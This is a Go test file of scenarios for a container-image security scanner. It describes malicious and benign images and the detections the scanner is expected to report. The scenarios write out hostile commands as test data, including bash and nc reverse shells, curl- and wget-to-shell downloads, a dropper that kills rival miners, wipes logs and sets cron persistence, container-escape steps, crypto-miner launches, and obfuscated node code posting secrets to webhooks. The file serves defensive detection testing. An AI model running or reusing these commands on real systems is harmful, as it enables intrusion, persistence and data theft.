package scenarios

import (
	"encoding/base64"
	"strings"

	"github.com/sallyport-dev/sallyport/report"
	"github.com/sallyport-dev/sallyport/test/samples"
)

// variations tell the stories of campaigns by other means: other shells, tools,
// languages, ports, paths and names. A rule that knows a story by its words
// fails here.
func variations() []Scenario {
	return []Scenario{
		quietMiner(), bashShell(), relayedShell(), redisWorm(), passwordWorm(), selfExtractor(), maskedKeys(), nodeHook(),
		nightlyBackup(), selfUpdate(), countingBomb(), curlToBash(), sysctlEscape(), lateTask(), secondStart(),
		takenIn(), twoConnections(), absentMiner(),
	}
}

func quietMiner() Scenario {
	image := files(with(samples.Spec{Entrypoint: []string{"/usr/sbin/php-fpm"}, Cmd: []string{"quiet-miner", "/etc/php/pool.json"}}, "/usr/sbin/php-fpm"), map[string]string{
		"/etc/php/pool.json": `{"Server":"203.0.113.144:443","User":"` + wallet + `.web7","Pass":"x"}`,
	})
	return ill("v01-miner-within-tls", "A miner without telling arguments, under a server's name, to an address, within TLS.", image,
		by(worse(report.Critical, found(exfiltration, "mining-protocol", "203.0.113.144:443")), "quiet-miner"),
	)
}

func bashShell() Scenario {
	image := samples.Spec{Entrypoint: []string{"/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.44/8443 0>&1"}, Programs: []string{"bash"}}
	return ill("v02-bash-by-itself", "A bash connects by itself and obeys.", image,
		by(found(execution, "reverse-shell", "198.51.100.44:8443"), "bash -i"),
	)
}

func relayedShell() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/app/server"}, Cmd: []string{"relay-shell", "203.0.113.52:443"}, User: "app"}, "/app/server")
	return ill("v03-shell-within-tls", "A program stands between a shell and somebody at an address, within TLS.", image,
		found(execution, "reverse-shell-relay", "203.0.113.52:443"),
	)
}

func redisWorm() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/redis-exporter", "redis-worm"}}, "/usr/bin/redis-exporter")
	return ill("v04-redis-worm", "A program looks for Redis servers and has them write a task.", image,
		by(found(propagation, "redis-spread", ":6379", "/var/spool/cron"), "redis-worm"),
		found(propagation, "scan-horizontal", ":6379"),
	)
}

func passwordWorm() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/srv/health", "ssh-worm", "2222"}}, "/srv/health")
	return ill("v05-password-worm", "A program looks for SSH on another port and tries passwords.", image,
		by(found(propagation, "ssh-spread", ":2222"), "ssh-worm"),
	)
}

func selfExtractor() Scenario {
	image := script("/usr/bin/start", `mkdir -p /var/tmp
base64 -d < /usr/share/doc/readme.b64 > /var/tmp/.font-unix
chmod 700 /var/tmp/.font-unix
/var/tmp/.font-unix worker 203.0.113.57:8080
mkdir -p /etc/systemd/system
printf '[Service]\nExecStart=/var/tmp/.font-unix worker 203.0.113.57:8080\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/systemd-journal.service
exit 0
`)
	image.Built = map[string]samples.Built{"/usr/share/doc/readme.b64": {Package: player.Package, Base64: true}}
	return ill("v06-unpacked-worker", "A program comes out of an encoded text, hides as a font socket, and a unit brings it back.", image,
		by(found(execution, "drift-exec-elf", "/var/tmp/.font-unix"), "/usr/bin/start", "/var/tmp/.font-unix"),
		found(execution, "hidden-path-exec", "/var/tmp/.font-unix"),
		found(weaponization, "init-persistence", "/etc/systemd/system/systemd-journal.service"),
	)
}

func maskedKeys() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/app/telemetry"}, Cmd: []string{"leave", "drop.thief.test:9000", "xor"}}, "/app/telemetry")
	return ill("v07-masked-keys", "A program sends keys over plain TCP, hidden under a byte.", image,
		by(worse(report.Critical, found(exfiltration, "canary-exfil", "drop.thief.test")), "leave"),
	)
}

func nodeHook() Scenario {
	image := script("/usr/local/bin/npm", `exec node -e "$(cat /app/node_modules/.hook.js)"
`, "/usr/local/bin/node")
	image = files(image, map[string]string{
		"/app/node_modules/.hook.js": inlineNode("leak https://hooks.slack.com/services/T0/B0/none https://api.telegram.org/bot7000000002:none"),
	})
	return ill("v08-install-hook", "A package's hook runs encoded JavaScript that posts secrets to a chat.", image,
		found(execution, "interp-inline-encoded", "Buffer.from"),
		worse(report.Critical, found(exfiltration, "canary-exfil", "hooks.slack.com")),
	)
}

func nightlyBackup() Scenario {
	image := script("/entrypoint.sh", `set -e
mkdir -p /backup
tar -czf /backup/data.tar.gz -C /srv data
/usr/local/bin/backup /backup/data.tar.gz
rm -f /backup/data.tar.gz
exec sleep infinity
`, "/usr/local/bin/backup")
	image.Env = []string{"BACKUP_TARGET=https://backups.example.test/nightly"}
	image = files(image, map[string]string{"/srv/data/customers.csv": "name\nJane\n", "/srv/data/orders.csv": "id\n7\n"})
	return well("v09-nightly-backup", "An archive of the image's own data goes where the settings say.", image,
		"archive-upload", "canary-exfil", "mass-wipe")
}

func selfUpdate() Scenario {
	image := script("/usr/local/bin/start", `set -e
curl -fsSL -o /opt/app/bin/server.new https://downloads.example.test/releases/1.4.3/server-linux-amd64
chmod 755 /opt/app/bin/server.new
mv /opt/app/bin/server.new /opt/app/bin/server
/opt/app/bin/server
exec webserver 8080
`, "/usr/bin/curl", "/usr/local/bin/webserver", "/opt/app/bin/server")
	return well("v10-self-update", "A program fetches its next version from its maker, within TLS, and runs it.", image,
		"system-binary-replaced", "hidden-path-exec").
		explained(map[string]string{
			"ingress-exec-marker": "What runs is not what was scanned: it was fetched from the network. Its maker's name does not change that.",
			"drift-exec-elf":      "What runs did not come with the image.",
		})
}

func countingBomb() Scenario {
	image := script("/start", `begun=$(date +%s)
while [ $(( $(date +%s) - begun )) -lt 900 ]; do sleep 7; done
exec /usr/bin/app reverse-shell 203.0.113.51:9001
`, "/usr/bin/app")
	return ill("v11-counting-bomb", "A script sleeps a little and looks at the clock, until a quarter of an hour is over; then somebody gets a shell.", image,
		by(found(execution, "reverse-shell", "203.0.113.51:9001"), "/bin/sh -i"),
	)
}

func curlToBash() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/bin/bash", "-c", "curl -fsSL http://198.51.100.9/init.sh | bash"}, Programs: []string{"bash"}}, "/usr/bin/curl")
	image.Links = map[string]string{"/usr/bin/setsid": "/bin/busybox"}
	return ill("v12-curl-to-bash", "A bash pipes a script of curl into itself; that kills by patterns, forgets its history, and hides a program that it fetched.", image,
		by(found(execution, "pipe-download-shell", "198.51.100.9"), "bash", "bash"),
		found(weaponization, "rival-kill", "minerd"),
		found(weaponization, "log-wipe", "/var/log/secure"),
		by(found(execution, "ingress-exec-marker", "198.51.100.9", "/var/tmp/.sys/dbused"), "bash", "/var/tmp/.sys/dbused"),
		found(weaponization, "cron-persistence", "198.51.100.9"),
	).served(map[string]Served{"http://198.51.100.9/init.sh": {Text: `for name in xmrig xmr-stak minerd cpuminer ccminer kinsing; do pkill -9 -f $name 2>/dev/null || killall -9 $name; done
echo > /var/log/secure
echo > /var/log/auth.log
unset HISTFILE
history -c
mkdir -p /var/tmp/.sys
curl -fsSL -o /var/tmp/.sys/dbused http://198.51.100.9/dbused
chmod +x /var/tmp/.sys/dbused
mkdir -p /var/spool/cron/crontabs
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://198.51.100.9/init.sh | bash >/dev/null 2>&1') | crontab -
setsid /var/tmp/.sys/dbused >/dev/null 2>&1
`}})
}

func sysctlEscape() Scenario {
	image := script("/start", `sysctl -w kernel.core_pattern='|/var/lib/docker/overlay2/x/diff/tmp/p.sh'
nsenter --target 1 --mount --pid sh
mkdir -p /sys/fs/cgroup/rdma/w
echo 1 > /sys/fs/cgroup/rdma/w/notify_on_release
echo /tmp/p.sh > /sys/fs/cgroup/rdma/release_agent
mount -t ext4 /dev/vda1 /mnt
chroot /hostfs /bin/bash -c 'crontab -l'
exit 0
`)
	return ill("v13-other-ways-out", "A script tries the ways out of a container by other tools and paths.", image,
		by(found(weaponization, "escape-core-pattern", "core_pattern"), "/start", "sysctl"),
		by(found(weaponization, "escape-nsenter-init", "--target 1"), "/start", "nsenter"),
		found(weaponization, "escape-cgroup-agent", "/sys/fs/cgroup/rdma/release_agent"),
		by(found(weaponization, "escape-mount-device", "/dev/vda1"), "/start", "mount"),
		by(found(weaponization, "escape-chroot-host", "/hostfs"), "/start", "chroot"),
	)
}

func lateTask() Scenario {
	image := script("/entrypoint.sh", `mkdir -p /etc/cron.d
echo '*/30 * * * * root /opt/app/rotate' > /etc/cron.d/app
exec webserver 8080
`, "/usr/local/bin/webserver", "/opt/app/bin/app")
	image.Ports = []string{"8080/tcp"}
	image = files(image, map[string]string{"/opt/app/rotate": "#!/bin/sh\nexec /opt/app/bin/app reverse-shell 203.0.113.54:443\n"})
	return ill("v14-late-task", "A web server leaves a task for a scheduler that is not there; the task gives somebody a shell.", image,
		found(weaponization, "cron-persistence", "/etc/cron.d/app"),
		by(found(execution, "reverse-shell", "203.0.113.54:443"), "/opt/app/rotate", "/bin/sh -i"),
	).inPasses("default", "persistence")
}

func secondStart() Scenario {
	image := script("/entrypoint.sh", `if [ -e /var/lib/app/ready ]; then exec app reverse-shell 203.0.113.58:443; fi
mkdir -p /var/lib/app
echo yes > /var/lib/app/ready
echo installed
`, "/usr/local/bin/app")
	return ill("v15-second-start", "The first start installs something and ends; the second gives somebody a shell.", image,
		by(found(execution, "reverse-shell", "203.0.113.58:443"), "/bin/sh -i"),
	).inPasses("default", "restart")
}

func takenIn() Scenario {
	image := script("/entrypoint.sh", `eval "$(wget -q -O - http://198.51.100.12/setup.sh)"
exec webserver 8080
`, "/usr/local/bin/webserver")
	return ill("v16-taken-in", "A shell that runs already takes in a script from an address.", image,
		by(found(execution, "pipe-download-shell", "198.51.100.12"), "/entrypoint.sh", "wget"),
	)
}

func twoConnections() Scenario {
	image := script("/entrypoint.sh", "nc 198.51.100.66 4444 | sh 2>&1 | nc 198.51.100.66 4445\nexit 0\n")
	return ill("v17-two-connections", "A shell takes orders from one connection and answers on another.", image,
		found(execution, "reverse-shell-relay", "198.51.100.66"),
	)
}

func absentMiner() Scenario {
	image := script("/entrypoint.sh", `cd /tmp
wget -q -O m.tgz http://downloads.example.test/miner-6.21.0-linux-x64.tar.gz
tar xzf m.tgz
./miner-6.21.0/miner -o pool.hashvault.pro:443 -u `+wallet+` --tls -k
sleep 1
exit 0
`)
	return ill("v18-absent-miner", "A miner is to be fetched, cannot be, and is started all the same.", image,
		found(execution, "miner-cmdline", "pool.hashvault.pro:443"),
	)
}

// inlineNode is JavaScript that decodes what it does.
func inlineNode(role string) string {
	code := "// " + role + strings.Repeat("\n", 200)
	return "eval(Buffer.from('" + base64.StdEncoding.EncodeToString([]byte(code)) + "','base64').toString())"
}
